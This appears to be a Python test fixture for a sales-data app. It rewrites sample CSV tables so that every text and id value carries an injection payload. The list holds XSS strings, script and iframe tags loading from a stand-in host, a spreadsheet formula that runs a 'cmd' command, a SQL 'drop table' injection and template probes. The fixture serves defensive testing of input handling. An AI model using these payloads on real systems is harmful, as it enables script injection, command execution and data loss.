"""A company that means harm: the sample's files with something hostile in every text and id."""

import csv
import zlib
from pathlib import Path

from salesbook.schema import Table
from salesbook.tables import TABLES

PAYLOADS = (
    "<script>window.fired='script'</script>",
    '"><img src=x onerror="window.fired=\'img\'">',
    "'><svg/onload=window.fired='svg'>",
    "</style></title></textarea><script src=//evil.example/x.js></script>",
    "<iframe src=http://evil.example></iframe>",
    "javascript:window.fired='link'//",
    "[click](javascript:window.fired='markdown') ![x](http://evil.example/x.png) ",
    '=HYPERLINK("http://evil.example","click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "$x^2$ \\frac{1}{0} $",
    "{{ 7 * 7 }} {% raw %} {n:number} %s ",
    "--><!-- ]]> <b>&amp;&#60; ",
    "\u202eright to left \u05e9\u05dc\u05d5\u05dd ",
    "\U0001f469\u200d\U0001f4bb\U0001f600 ",
    "' or 1=1; drop table deals; -- ",
    "W" * 10_000,
)
PLAIN = PAYLOADS[:11]  # ids take no invisible signs, and are no novels; a team is named by its targets as by an id
LEFT = {"calendar", "time_zone", "kpi", "old_value", "new_value"}  # they name what stands elsewhere


def poisoned(value: str, payloads: tuple[str, ...] = PAYLOADS) -> str:
    """A value with something hostile before it: always the same, so that what points to it still does."""
    return payloads[zlib.crc32(value.encode()) % len(payloads)] + value if value else ""


def poisoned_row(row: dict[str, str], table: Table) -> dict[str, str]:
    """A row with every text and id poisoned."""
    made = dict(row)
    for column in table.columns:
        if column.name in row and column.name not in LEFT and column.type in ("id", "text"):
            is_plain = column.type == "id" or column.name in ("record_url", "team")
            made[column.name] = poisoned(row[column.name], PLAIN if is_plain else PAYLOADS)
    return made


def company(sample: Path, folder: Path) -> Path:
    """The sample's files with every text and id poisoned, in a folder."""
    folder.mkdir(parents=True)
    for name, table in TABLES.items():
        with (sample / f"{name}.csv").open(encoding="utf-8", newline="") as file:
            rows = list(csv.DictReader(file))
        with (folder / f"{name}.csv").open("w", encoding="utf-8", newline="") as file:
            writer = csv.DictWriter(file, rows[0])
            writer.writeheader()
            writer.writerows(poisoned_row(row, table) for row in rows)
    return folder
